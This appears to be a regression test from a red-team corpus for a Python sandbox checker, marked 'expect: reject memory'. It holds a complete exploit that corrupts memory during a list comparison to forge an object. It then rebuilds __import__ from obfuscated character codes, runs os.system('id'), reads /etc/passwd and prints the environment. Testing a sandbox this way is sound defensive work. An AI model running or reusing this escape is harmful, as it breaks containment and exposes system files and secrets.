# expect: reject memory
# line: 50
# why: round 94 (red team): int_only_attribute took the class-body 'tally: int = 0' for tally's only binding, while the dataclass's generated __init__ set it from Box(Clearer()): SA.tally += 1 ran Clearer.__iadd__ inside the comparison. An annotated class-body name is a field, never an int-only binding
import dataclasses

vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


def g():
    return 0


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
        + q(0) + q(0) + q(0))[:73]


class Clearer:
    def __iadd__(self, n):
        vl.clear()
        return 0


class Filler:
    def __iadd__(self, n):
        KEEP.append(bytearray(FAKE))
        return 0


@dataclasses.dataclass
class Box:
    tally: int = 0


SA = Box(Clearer())
SB = Box(Filler())


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        SA.tally += 1
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        SB.tally += 1
        return o


vl.append(V())
w = W()
got = vl < [w]
bt = got[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
